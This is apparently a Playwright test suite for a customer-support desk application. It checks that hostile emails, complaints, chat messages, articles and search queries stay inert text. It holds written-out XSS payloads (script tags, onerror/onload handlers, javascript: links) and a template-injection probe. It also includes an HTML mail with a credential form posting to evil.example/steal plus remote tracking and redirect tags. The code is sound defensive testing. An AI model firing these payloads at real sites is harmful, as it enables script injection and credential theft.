"""Hostile content in a real browser: whatever people write, nothing of it runs, loads, sends or leads anywhere."""

from __future__ import annotations

import re
import smtplib
from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sqlalchemy import select

from channels.chat.secret import new_token
from channels.form import ComplaintForm, to_inbound
from desk.actions import intake
from desk.actions.articles.articles import set_state, write_article
from desk.actions.chats import chats
from desk.actions.complaints import complaints
from desk.actions.people.customers import identify
from desk.actions.surveys.surveys import answer_survey, send_survey
from desk.actions.tickets import tickets
from desk.models import Agent, Complaint, MailboxMail, Message, Queue, Ticket
from desk.models.article import PUBLISHED
from tests.desk.chat_world import question
from tests.world import PASSWORD, World, running, settings_for

FIRE = "window.hit=1;document.title='hit'"
EVIL = f"""'"></title></textarea></script><script>{FIRE}</script><img src=x onerror="{FIRE}"><svg onload="{FIRE}">{{{{7*7}}}}"""
HTML = f"""<html><head><meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import "https://evil.example/y.css"; body{{background:url(https://evil.example/z)}}</style>
<script>{FIRE}</script></head><body onload="{FIRE}"><p id="words">Read me</p><img src="https://evil.example/pixel.gif">
<img src=x onerror="{FIRE}">
<div style="position:fixed;inset:0;background:url('https://evil.example/bg')">over</div><iframe src="javascript:{FIRE}"></iframe>
<form action="https://evil.example/steal"><input name=password><button>Sign in</button></form><a href="javascript:{FIRE}">one</a>
<a href="data:text/html,<script>{FIRE}</script>" target=_top>two</a><a href="https://evil.example/out" target="_top">three</a>

<svg><a xlink:href="javascript:{FIRE}"><text>four</text></a></svg><math href="javascript:{FIRE}">five</math>
<video src="https://evil.example/v"></video>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><img srcset="https://evil.example/s 1x">
<button hx-post="/logout" hx-trigger="load">six</button>
<div data-live="board" data-src="/logout" id="main">seven</div></body></html>"""
MARKDOWN = f"""# {EVIL}

[one](javascript:{FIRE}) ![two](https://evil.example/pixel.gif) <javascript:{FIRE}> [three](data:text/html,x)

```"onmouseover="{FIRE}
{EVIL}
```

{EVIL}
"""


@pytest.fixture
def world(tmp_path) -> Iterator[World]:
    with running(replace(settings_for(tmp_path), demo=True)) as world:
        yield world


@pytest.fixture
def context(chromium: Browser, world: World) -> Iterator[BrowserContext]:
    context = chromium.new_context(viewport={"width": 1400, "height": 900})
    context.set_default_timeout(45_000)
    context.outside = []

    def watch(route) -> None:
        if route.request.url.startswith((world.url, "data:", "blob:")):
            route.continue_()
        else:
            context.outside.append(route.request.url)
            route.abort()

    context.route("**/*", watch)
    context.on("dialog", lambda dialog: context.outside.append(dialog.message))
    yield context
    context.close()


def sign_in(context: BrowserContext, world: World, email: str) -> Page:
    page = context.new_page()
    page.goto(f"{world.url}/login")
    page.locator("[name=email]").fill(email)
    page.locator("[name=password]").fill(PASSWORD)
    page.locator("form:has([name=password]) button").click()
    page.wait_for_url(lambda url: "/login" not in url)
    return page


def harmless(page: Page, context: BrowserContext) -> None:
    """Nothing has run, no mark of ours became markup, and nothing was asked for elsewhere."""
    assert page.evaluate("window.hit") is None
    assert page.title() != "hit"
    assert page.locator("[onerror], [onload], [onmouseover], img[src='x'], a[href^='javascript'], a[href^='data']").count() == 0
    assert "49" not in page.title()
    assert context.outside == []


def send(world: World, html: str = HTML) -> Ticket:
    mail = EmailMessage()
    mail["From"] = f'"{EVIL.replace(chr(34), "")}" <evil@customers.example>'
    mail["To"], mail["Subject"], mail["Message-ID"] = "support@desk.example", EVIL, "<evil@customers.example>"
    mail.set_content(EVIL)
    mail.add_alternative(html, subtype="html")
    mail.add_attachment(b"<script>alert(1)</script>", maintype="image", subtype="png", filename=EVIL[:80] + ".png")
    mail.add_attachment(b"GIF89a<script>alert(1)</script>", maintype="text", subtype="html", filename="page.html")
    mail.add_attachment(f'<svg onload="{FIRE}"/>'.encode(), maintype="image", subtype="svg+xml", filename="drawing.svg")
    with smtplib.SMTP("127.0.0.1", world.background.mail.port, timeout=60) as smtp:
        smtp.send_message(mail)
    return world.until(world.ticket)


def test_a_hostile_mail_is_read_without_harm(world, context):
    world.agent("Sara", roles=("supervisor",))
    ticket = send(world)
    page = sign_in(context, world, "sara@desk.example")
    ours = (f"/desk/tickets/{ticket.number}", f"/desk/customers/{ticket.customer_id}")
    for path in (*ours, "/desk/tickets?view=open", "/desk", "/board", "/desk/customers"):
        page.goto(world.url + path)
        page.wait_for_load_state("load")
        harmless(page, context)
    page.goto(f"{world.url}/desk/tickets/{ticket.number}")
    expect(page.locator("#timeline")).to_contain_text("{{7*7}}")
    page.get_by_text("Show the original").first.click()
    frame = page.frame_locator("details.original iframe")
    expect(frame.get_by_text("Read me")).to_be_visible()
    expect(page.locator("details.original iframe")).to_have_attribute("style", re.compile("height"))  # the server has said it
    assert page.locator("details.original iframe").bounding_box()["height"] < 400  # as few lines as there are
    assert "allow-scripts" not in page.locator("details.original iframe").get_attribute("sandbox")
    assert "allow-same-origin" not in page.locator("details.original iframe").get_attribute("sandbox").split()
    assert frame.locator("meta[http-equiv], base[href], link").count() == 0
    assert frame.locator("body").locator("form, input, iframe, script, style, meta, base, object, embed, video, svg").count() == 0
    assert frame.locator("[hx-post], [data-live], [onerror], [onload], [srcset]").count() == 0
    assert frame.locator("a[target='_top'], a[href^='javascript'], a[href^='data']").count() == 0
    harmless(page, context)


def test_an_original_opened_by_its_address_is_as_shut_as_in_its_frame(world, context):
    world.agent("Sara", roles=("supervisor",))
    send(world)
    page = sign_in(context, world, "sara@desk.example")
    message = world.one(select(Message).where(Message.html != ""))
    page.goto(f"{world.url}/desk/messages/{message.id}/original")
    expect(page.get_by_text("Read me")).to_be_visible()
    harmless(page, context)
    assert page.evaluate("self.origin") == "null"
    page.get_by_text("three").click()
    assert page.url.startswith(world.url)


@pytest.mark.timeout(600)  # a hang, not slowness: it opens thirty pages
def test_hostile_words_of_every_other_kind_stay_words(world, context):
    sara = world.agent("Sara", roles=("supervisor",), available=True)
    world.agent("Ed", roles=("knowledge_editor",))
    world.agent("Ada", roles=("admin",))
    with world.tx() as tx:
        tx.session.scalars(select(Queue).where(Queue.key == "general")).one().name = EVIL[:100]
        tx.session.get_one(Agent, sara.id).name = EVIL[:100]
        customer = identify(tx, "phone", "+8613800138000", name=EVIL)
        ticket = tickets.open_ticket(tx, customer=customer, queue=intake.find_queue(tx, "general"), subject=EVIL, channel="voice")
        tickets.note(tx, ticket, None, EVIL)
        tickets.queue_work(tx, ticket, intake.find_queue(tx, "general"))
        form = ComplaintForm(
            token="0123456789abcdef", name=EVIL, email="li@customers.example", statement=EVIL, remedy_wanted=EVIL, product=EVIL,
            order_number=EVIL,
        )  # fmt: skip
        complaint = complaints.file_complaint(tx, to_inbound(form), form)
        chat, _ = chats.open_chat(tx, question(token=new_token(), name=EVIL[:90], text=EVIL), token=new_token())
        survey = send_survey(tx, tx.session.get_one(Ticket, complaint.ticket_id), "email")
        if survey is not None:
            answer_survey(tx, survey, 1, False, EVIL)
        article = write_article(tx, key="evil-en", lang="en", title=EVIL, text=MARKDOWN, audience="public", tags=(EVIL[:40],))
        set_state(tx, article, PUBLISHED)
        own = (chat.ticket_id, ticket.id, complaint.ticket_id)
        chat_ticket, own_ticket, complaint_ticket = (tx.session.get_one(Ticket, each).number for each in own)
        track = complaint.access_key
    page = sign_in(context, world, "sara@desk.example")
    paths = [
        *(f"/desk/tickets/{number}" for number in (chat_ticket, own_ticket, complaint_ticket)),
        *("/desk", "/desk/tickets?view=open", "/desk/complaints", "/board", "/wallboard", "/desk/customers", "/desk/articles"),
        *(f"/desk/customers/{customer.id}", "/desk/articles/evil-en", "/desk/articles/evil-en/versions", f"/track/{track}"),
        *("/articles/evil-en", f"/complaints/received/{track}", "/", "/login", "/admin/audit"),
    ]
    for path in paths:
        page.goto(world.url + path)
        page.wait_for_load_state("load")
        assert page.url.startswith(world.url)
        assert page.evaluate("window.hit") is None, path
        harmless_inside(page, context, path)
    world.until(world.desk.knowledge.count)
    for path in (
        "/?q=",
        "/desk/articles?q=",
        "/desk/tickets?q=",
        "/desk/customers?q=",
        f"/desk/tickets/{own_ticket}/knowledge?q=",
    ):
        page.goto(world.url + path + "%3Cscript%3Ewindow.hit%3D1%3C/script%3E+onerror+img+%22%3E%3Cimg+src%3Dx+onerror%3Dhit%3E")
        harmless_inside(page, context, path)
    world.until(lambda: world.one(select(MailboxMail.id)))
    page.goto(f"{world.url}/mailbox/{world.one(select(MailboxMail.id))}")
    harmless_inside(page, context, "mailbox")


def harmless_inside(page: Page, context: BrowserContext, path: str) -> None:
    assert page.evaluate("window.hit") is None, path
    assert page.title() != "hit", path
    bad = "[onerror], [onload], [onmouseover], img[src='x'], a[href^='javascript'], a[href^='data:'], script:not([src])"
    assert page.locator(bad).count() == 0, path
    # A picture that an article names elsewhere is stopped by the page's policy before anybody is asked for it.
    assert context.outside == [], path


def test_a_hostile_toast_and_offer_stay_words(world, context):
    maya = world.agent("Maya", available=True)
    page = sign_in(context, world, maya.email)
    page.goto(f"{world.url}/desk")
    send(world)
    expect(page.locator("body")).to_contain_text("</title>", timeout=45_000)
    harmless_inside(page, context, "/desk")
    assert world.one(select(Complaint)) is None
